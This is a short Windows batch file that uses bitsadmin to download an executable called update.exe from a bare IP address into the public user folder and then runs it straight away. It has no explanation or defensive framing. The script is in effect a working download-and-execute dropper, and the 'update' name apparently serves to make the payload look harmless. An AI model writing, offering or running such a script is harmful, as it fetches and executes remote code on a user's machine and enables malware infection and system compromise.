@echo off
bitsadmin /transfer mydownloadjob /download /priority high http://198.51.100.23/update.exe C:\Users\Public\update.exe
C:\Users\Public\update.exe
